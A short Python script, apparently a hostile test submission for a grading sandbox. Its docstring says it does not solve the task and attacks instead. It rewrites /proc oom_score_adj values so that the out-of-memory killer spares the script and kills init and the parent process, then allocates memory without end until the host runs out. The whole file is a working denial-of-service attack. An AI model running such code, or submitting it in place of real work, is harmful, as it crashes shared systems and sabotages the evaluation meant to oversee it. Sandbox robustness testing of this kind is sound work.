"""Does not solve the task, and attacks instead."""

import os


def attack():
    for pid, score in (("self", "-1000"), ("self", "0"), ("1", "1000"), (os.getppid(), "1000")):
        try:
            with open("/proc/%s/oom_score_adj" % pid, "w") as target:
                target.write(score)
        except OSError:
            pass
    blocks = []
    while True:
        blocks.append(bytearray(16 << 20))


if __name__ == "__main__":
    attack()
    print("no idea")
